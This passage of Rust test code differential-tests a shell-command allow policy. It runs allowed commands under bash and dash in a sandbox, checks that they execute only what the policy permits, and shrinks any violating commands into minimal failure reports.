fn shrink(policy: &Policy, sb: &mut Sandbox, cmd: &str, kind: &str, budget: usize) -> String {
    let mut best: Vec<char> = cmd.chars().collect();
    let mut runs = 0;
    let mut size = best.len() / 2;
    while size >= 1 && runs < budget {
        let mut at = 0;
        let mut smaller = false;
        while at + size <= best.len() && runs < budget {
            let candidate: String = best[..at].iter().chain(&best[at + size..]).collect();
            if !candidate.trim().is_empty() && allowed(policy, &candidate) {
                runs += 1;
                if sb.check(policy, &candidate).iter().any(|v| v.kind == kind) {
                    best = candidate.chars().collect();
                    smaller = true;
                    continue;
                }
            }
            at += size;
        }
        if !smaller {
            size /= 2;
        }
    }
    best.into_iter().collect()
}

/// The commands that must stay allowed are allowed, and the shells run exactly them.
#[test]
fn required_commands_stay_allowed_and_run_as_written() {
    let policy = runner::policy();
    let mut sb = sandbox("required");
    let mut wrong = Vec::new();
    for (cmd, want) in REQUIRED {
        // With no home folder in the test's environment, a `~` is not plain.
        let needs_home = want
            .iter()
            .flat_map(|a| a.iter())
            .any(|w| w.contains("{HOME}"));
        if needs_home && shell::home().is_none() {
            if allowed(&policy, cmd) {
                wrong.push(format!("{cmd:?} is allowed with no $HOME"));
            }
            continue;
        }
        if !allowed(&policy, cmd) {
            wrong.push(format!(
                "{cmd:?} is not allowed: {:?}",
                decide(&policy, json!(cmd))
            ));
            continue;
        }
        for shell in runner::SHELLS {
            let run = sb.run(shell, cmd);
            let mut want: Vec<Vec<String>> = want
                .iter()
                .map(|a| a.iter().map(|w| w.replace("{HOME}", &run.home)).collect())
                .collect();
            want.sort();
            let mut got: Vec<Vec<String>> = run.execs.iter().map(|e| e.argv.clone()).collect();
            got.sort();
            if got != want {
                wrong.push(format!(
                    "{shell} -c {cmd:?} ran {got:?}, not {want:?}: {run:?}"
                ));
            }
        }
        for v in sb.check(&policy, cmd) {
            wrong.push(format!("{cmd:?}: {v}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Every generated command the policy allows does under bash and dash only what the policy
/// allows (runner.rs says what that is).
#[test]
#[allow(clippy::print_stdout)] // the counts are the test's report
fn generated_commands_run_only_what_their_rule_allows() {
    let policy = runner::policy();
    let cases = env_number("POLICY_DIFF_CASES", 4000);
    let seed = env_number("POLICY_DIFF_SEED", 0x5eed);
    let jobs = env_number(
        "POLICY_DIFF_JOBS",
        std::thread::available_parallelism().map_or(2, |n| n.get().min(4) as u64),
    )
    .max(1);

    let mut rng = Rng(seed);
    let mut all: Vec<Case> = KNOWN
        .iter()
        .map(|k| Case {
            class: "known".into(),
            cmd: (*k).into(),
        })
        .collect();
    all.extend((0..cases).map(|_| generate(&mut rng)));
    let generated = all.len();
    let mut per_class: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut to_run = Vec::new();
    for case in all {
        let first = case.class.split('+').next().unwrap_or_default().to_owned();
        let counts = per_class.entry(first).or_default();
        counts.0 += 1;
        if allowed(&policy, &case.cmd) {
            counts.1 += 1;
            to_run.push(case);
        }
    }

    // Plain arguments around an allowed prefix are allowed, and so are the forms read as
    // the shells expand them: a policy that asks everything does not pass.
    let mut must = vec!["plain", "commit", "env"];
    if shell::home().is_some() {
        must.push("tilde");
    }
    for class in must {
        assert!(
            per_class
                .get(class)
                .is_some_and(|(_, allowed)| *allowed > 0),
            "no {class} command was allowed: {per_class:?}"
        );
    }

    let next = AtomicUsize::new(0);
    let failures: Mutex<Vec<(usize, Vec<Violation>)>> = Mutex::new(Vec::new());
    std::thread::scope(|s| {
        for job in 0..jobs {
            let (to_run, next, failures, policy) = (&to_run, &next, &failures, &policy);
            s.spawn(move || {
                let mut sb = sandbox(&format!("job{job}"));
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(case) = to_run.get(i) else {
                        break;
                    };
                    let v = sb.check(policy, &case.cmd);
                    if !v.is_empty() {
                        failures.lock().unwrap().push((i, v));
                    }
                }
            });
        }
    });
    let mut failures = failures.into_inner().unwrap();
    failures.sort_by_key(|(i, _)| *i);

    println!(
        "policy_shell: seed {seed:#x}: generated {generated}, allowed {}, run {} (x{} shells), \
         failed {}",
        to_run.len(),
        to_run.len(),
        runner::SHELLS.len(),
        failures.len()
    );
    for (class, (made, allowed)) in &per_class {
        println!("  {class:<12} generated {made:>6}, allowed {allowed:>6}");
    }
    if failures.is_empty() {
        return;
    }

    // By class: how many, and the shortest, shrunk.
    let mut by_class: BTreeMap<&str, Vec<(usize, &Vec<Violation>)>> = BTreeMap::new();
    for (i, v) in &failures {
        by_class
            .entry(to_run[*i].class.as_str())
            .or_default()
            .push((*i, v));
    }
    let mut classes: Vec<_> = by_class.into_iter().collect();
    classes.sort_by_key(|(_, f)| std::cmp::Reverse(f.len()));
    let mut sb = sandbox("shrink");
    let mut report = vec![format!(
        "{} of {} allowed commands did more than the policy allows (seed {seed:#x}, \
         POLICY_DIFF_SEED to repeat); by generator class, the shortest, then shrunk:",
        failures.len(),
        to_run.len()
    )];
    for (n, (class, found)) in classes.iter().enumerate() {
        let (i, violations) = found
            .iter()
            .min_by_key(|(i, _)| to_run[*i].cmd.len())
            .expect("a failure");
        let cmd = &to_run[*i].cmd;
        report.push(format!(
            "\n[{class}] {} commands; shortest: {cmd:?}",
            found.len()
        ));
        for v in violations.iter().take(4) {
            report.push(format!("    {v}"));
        }
        if n < 16 {
            let small = shrink(&policy, &mut sb, cmd, violations[0].kind, 80);
            if small != *cmd {
                report.push(format!("  shrunk: {small:?}"));
                for v in sb.check(&policy, &small).iter().take(4) {
                    report.push(format!("    {v}"));
                }
            }
        }
    }
    panic!("{}", report.join("\n"));
}
